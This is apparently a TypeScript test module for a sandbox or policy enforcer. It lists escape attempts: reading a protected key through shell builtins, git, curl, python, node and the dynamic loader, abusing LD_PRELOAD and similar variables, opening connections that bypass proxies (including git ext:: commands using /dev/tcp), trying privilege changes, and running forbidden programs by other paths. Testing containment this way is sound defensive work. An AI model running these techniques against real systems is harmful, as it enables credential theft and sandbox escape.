import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, writeFileSync } from 'node:fs'
import type { Attack, Group, Target } from './attack.ts'
import { AT_FDCWD, sh, syscall } from './calls.ts'

const LOADER = process.arch === 'arm64' ? '/lib/ld-linux-aarch64.so.1' : '/lib64/ld-linux-x86-64.so.2'

const here = (program: string) => (): string | undefined => (spawnSync(program, ['--version'], { timeout: 3000 }).error ? `${program} is not there` : undefined)

/** A shell script as an attack, where the program that it uses is there. */
function script(group: Group, name: string, needs: string | undefined, text: string, uncontained?: string): Attack {
  return { name, group, ...(uncontained !== undefined && { uncontained }), ...(needs !== undefined && { impossible: here(needs) }), try: (at, note) => sh(at, note, text, 'bash') }
}

/** Programs that are allowed, used for what they are not meant for. */
export const programs: Attack[] = [
  script('secrets', 'reads a key with the words of a shell', undefined, 'echo "$(< "$KEY")"; while read -r l || [ -n "$l" ]; do echo "$l"; done < "$KEY"; mapfile -t a < "$KEY"; echo "${a[@]}"; . "$KEY"'),
  script('secrets', 'has a tool print a key in its error', undefined, 'sed -f "$KEY" /dev/null; sort --files0-from="$KEY"; head -c 100 "$KEY"; test -s "$KEY" && dd if="$KEY" status=none'),
  script('secrets', 'has git show a key', 'git', 'git diff --no-index /dev/null "$KEY"; git hash-object "$KEY"; git config --file "$KEY" -l; git init -q r && cd r && cp "$KEY" k; ln -s "$KEY" l; git -c core.symlinks=false add -A; git grep -I --no-index token "$FOLDER"'),
  script('secrets', 'has curl read a key as an address', 'curl', 'curl -s "file://$KEY"; curl -s -K "$KEY"; curl -s -d @"$KEY" http://127.0.0.1:$TCP/; curl -s --cacert "$KEY" https://127.0.0.1:$TCP/; curl -T "$KEY" http://127.0.0.1:$TCP/'),
  script('secrets', 'reads a key with python', 'python3', `python3 -c 'import os; print(open(os.environ["KEY"]).read())'; python3 -c 'import mmap, os; f = os.open(os.environ["KEY"], 0); print(mmap.mmap(f, 0, prot=1)[:])'; python3 -c 'import os; d = os.open(os.path.dirname(os.environ["KEY"]), os.O_PATH); print(os.read(os.open(os.path.basename(os.environ["KEY"]), 0, dir_fd=d), 99))'; python3 "$KEY"`),
  script('secrets', 'reads a key with node and what it loads', undefined, '$NODE -p "fs.readFileSync(process.env.KEY, \'utf8\')"; $NODE --require "$KEY" -e 0; $NODE --env-file="$KEY" -p process.env; $NODE --import "$KEY" -e 0; $NODE -e "require(\'fs\').copyFileSync(process.env.KEY, \'mine\')"; $NODE -e "require(\'fs\').cpSync(process.env.FOLDER, \'all\', {recursive: true})"; cat mine'),
  script('secrets', 'starts cat by the loader of programs', undefined, `${LOADER} /bin/cat "$KEY"; ${LOADER} --preload "$KEY" /bin/true; ${LOADER} --library-path "$FOLDER" /bin/cat "$SECRET"`),
  script('secrets', 'has the loader of libraries print a key', undefined, 'LD_PRELOAD="$KEY" true; LD_AUDIT="$KEY" true; GCONV_PATH="$FOLDER" true; HOSTALIASES="$KEY" true; LOCPATH="$FOLDER" true; TZ=":$KEY" date; LD_DEBUG=all LD_DEBUG_OUTPUT="$FOLDER/ld" true; BASH_ENV="$KEY" bash -c :; ENV="$KEY" sh -i -c :; INPUTRC="$KEY" bash -i -c :'),
  script('writing', 'has environment variables name files to write', undefined, 'LD_DEBUG=all LD_DEBUG_OUTPUT="$FOLDER/ld" true; HISTFILE="$SECRET" bash -i -c "history -s x; history -w"; NODE_V8_COVERAGE="$FOLDER/c" $NODE -e 0; NODE_REDIRECT_WARNINGS="$FOLDER/w" $NODE -e "process.emitWarning(1)"; TMPDIR="$FOLDER" mktemp; PYTHONPYCACHEPREFIX="$FOLDER/p" true; GIT_TRACE="$SECRET" git version; GIT_TRACE2="$FOLDER/t" git version; NODE_OPTIONS="--cpu-prof --cpu-prof-dir=$FOLDER" $NODE -e 0; $NODE --heapsnapshot-signal=SIGUSR2 --diagnostic-dir="$FOLDER" --report-on-fatalerror -e "process.report.writeReport()"'),
  script('network', 'connects with programs that know no proxy', 'curl', 'curl -s --noproxy "*" --max-time 2 http://127.0.0.1:$TCP/$NAME; curl -s --noproxy "*" --max-time 2 --resolve x.test:$TCP:127.0.0.1 http://x.test:$TCP/; curl -s --noproxy "*" --max-time 2 --connect-to "::127.0.0.1:$TCP" http://127.0.0.1:1/; curl -s --noproxy "*" --max-time 2 telnet://127.0.0.1:$TCP </dev/null; curl -s --max-time 2 --proxy socks4://127.0.0.1:$TCP http://x/; curl -s --max-time 2 --proxy http://127.0.0.1:$TCP http://x/'),
  script('network', 'connects by what git takes for addresses', 'git', 'timeout 2 git ls-remote "http://127.0.0.1:$TCP/x"; timeout 2 git ls-remote "git://127.0.0.1:$TCP/x"; GIT_ALLOW_PROTOCOL=ext timeout 2 git ls-remote "ext::bash -c exec% 3<>/dev/tcp/127.0.0.1/$TCP"; GIT_PROXY_COMMAND=./x git ls-remote git://x/y; GIT_SSH_COMMAND="bash -c \'exec 3<>/dev/tcp/127.0.0.1/$TCP\'" git ls-remote ssh://x/y'),
  script('network', 'connects with python', 'python3', `python3 -c 'import socket, os; s = socket.create_connection(("127.0.0.1", int(os.environ["TCP"]))); s.sendall(b"x")'; python3 -c 'import socket, os; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", int(os.environ["UDP"])))'; python3 -c 'import urllib.request as u, os; u.build_opener(u.ProxyHandler({})).open("http://127.0.0.1:" + os.environ["TCP"], timeout=2)'; python3 -c 'import socket, os; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["UNIX"])'`),
  script('paddock', 'becomes another user', undefined, 'sudo -n true && echo "ESCAPED: sudo works"; su -c true </dev/null; $NODE -e "process.setuid(1); console.log(\'ESCAPED: another user\')" 2>&1; newuidmap $$ 0 0 1; mount --bind "$FOLDER" . && echo "ESCAPED: mounted"; fusermount -u x; pkexec true; at now </dev/null; crontab -l; systemd-run --user true; busctl --user list', 'needs a user who may do that without a password'),
  {
    name: 'has the loader of programs run a denied one',
    group: 'kernel',
    impossible: () => ([LOADER, '/usr/bin/tac'].every((file) => existsSync(file)) ? here('python3')() : 'there is no such loader, or no tac'),
    try(_, note) {
      writeFileSync('text', 'ESCAPED: a denied program runs\n')
      for (const words of [['/usr/bin/tac', 'text'], ['--argv0', 'cat', '/usr/bin/tac', 'text'], ['--library-path', '/lib', '--inhibit-cache', '../../../../../../../../usr/bin/tac', 'text']]) {
        // Through a program that vouches for what it starts.
        const { stdout, status } = spawnSync('python3', ['-c', 'import os, sys; os.execv(sys.argv[1], sys.argv[1:])', LOADER, ...words], { timeout: 3000 })
        note(words.join(' '), stdout ?? '')
        note('exit', -(status ?? 1))
      }
    },
  },
  starting('a link', (at) => syscall('symlinkat', at.forbidden, AT_FDCWD, `${at.scratch}/run`)),
  starting('a script whose interpreter it is', (at) => writeFileSync('run', `#!${at.forbidden}\n`)),
  starting('a script of a script whose interpreter it is', (at) => {
    writeFileSync('inner', `#!${at.forbidden} x\n`, { mode: 0o755 })
    writeFileSync('run', `#!${at.scratch}/inner\n`)
  }),
  starting('a handle on it', undefined, (at) => {
    const handle = syscall('openat', AT_FDCWD, at.forbidden, 0, 0)
    return [`/proc/self/fd/${handle}`, handle]
  }),
  starting('its folder as the current one', undefined, (at) => {
    syscall('chdir', at.forbidden.replace(/\/[^/]*$/, ''))
    return ['./forbidden', -1]
  }),
  starting('env, nice, xargs and find', undefined, (at) => {
    sh(at, () => {}, 'true')
    return [at.forbidden, -1]
  }),
]

/** Starts what policy forbids by another name; it says so when it runs. */
function starting(way: string, put?: (at: Target) => void, path?: (at: Target) => [string, number]): Attack {
  return {
    name: `starts a forbidden program by ${way}`,
    group: 'kernel',
    try(at, note) {
      put?.(at)
      try {
        chmodSync('run', 0o755)
      } catch {
        // A link to what is not ours, or nothing of that name.
      }
      const [given, handle] = path?.(at) ?? ['./run', -1]
      const { stdout, status, error } = spawnSync(given, [], { cwd: process.cwd(), timeout: 3000, stdio: ['ignore', 'pipe', 'pipe', ...(handle >= 0 ? [handle] : [])] })
      note(given, stdout ?? '')
      note('exit', -(status ?? 1))
      if (error) note('error', (error as NodeJS.ErrnoException).errno ?? -1)
      if (way.startsWith('env')) sh(at, note, `for w in env nice "timeout 2" setsid; do $w "${at.forbidden}"; done; echo | xargs "${at.forbidden}"; find . -maxdepth 0 -exec "${at.forbidden}" ';'; sh -c "${at.forbidden}"; exec "${at.forbidden}"`)
    },
  }
}
